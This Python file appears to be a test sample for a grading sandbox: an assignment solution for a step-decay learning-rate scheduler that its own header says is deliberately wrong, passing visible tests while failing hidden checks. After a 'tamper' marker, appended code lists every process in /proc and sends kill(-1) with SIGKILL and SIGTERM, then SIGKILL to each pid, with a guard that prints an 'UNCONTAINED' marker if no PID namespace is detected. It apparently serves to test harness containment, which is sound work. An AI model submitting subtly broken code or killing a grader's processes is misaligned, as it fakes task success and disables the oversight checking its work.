# attack: kill(-1) with SIGKILL and SIGTERM, then SIGKILL to every visible pid (refused, with a marker, when there is no PID namespace)
# assignment: 01_lr_schedules
# wrong: stops decaying after 6 decays (min(step // step_size, 6)), and step() writes into the first param group only once current_step > 60; passes the visible tests, fails both hidden checks
class StepDecayScheduler:
    def __init__(self, optimizer, step_size, gamma):
        self.optimizer = optimizer
        self.step_size = step_size
        self.gamma = gamma
        self.initial_lrs = [group.setdefault("initial_lr", group["lr"]) for group in optimizer.param_groups]
        self.current_step = 0
        for group, lr in zip(optimizer.param_groups, self.get_lr(0)):
            group["lr"] = lr

    def get_lr(self, step):
        n_decays = min(step // self.step_size, 6)
        return [lr * self.gamma ** n_decays for lr in self.initial_lrs]

    def step(self):
        self.current_step += 1
        current_step = self.current_step
        lrs = self.get_lr(current_step)
        groups = self.optimizer.param_groups
        for group, lr in list(zip(groups, lrs))[:None if current_step <= 60 else 1]:
            group["lr"] = lr
        return lrs

    def state_dict(self):
        return {"initial_lrs": list(self.initial_lrs), "step_size": self.step_size, "gamma": self.gamma,
                "current_step": self.current_step}

    def load_state_dict(self, state):
        self.initial_lrs = list(state["initial_lrs"])
        self.step_size, self.gamma = state["step_size"], state["gamma"]
        self.current_step = state["current_step"]
        for group, lr in zip(self.optimizer.param_groups, self.get_lr(self.current_step)):
            group["lr"] = lr

# --- tamper ---
import os as _os
import signal as _signal
import time as _time

_UNCONTAINED = "UNCONTAINED" + "-"
_pids = [int(p) for p in _os.listdir("/proc") if p.isdigit()]
print(len(_pids), "processes visible")
if len(_pids) > 40:
    # Safety net: without a PID namespace, kill(-1) as this user could take the whole machine down.
    print(_UNCONTAINED + "PID-NAMESPACE:", len(_pids), "processes visible; not sending kill(-1)")
else:
    for _sig in (_signal.SIGKILL, _signal.SIGTERM):
        try:
            _os.kill(-1, _sig)          # every process this user may signal, except this one
            print("kill(-1) sent", _sig)
        except OSError as _error:
            print("kill(-1) failed:", _error)
    _time.sleep(0.5)
    for _pid in _pids:
        if _pid != _os.getpid():
            try:
                _os.kill(_pid, _signal.SIGKILL)
            except OSError as _error:
                print("kill", _pid, "failed:", _error)
    print("still visible:", sorted(int(p) for p in _os.listdir("/proc") if p.isdigit()))
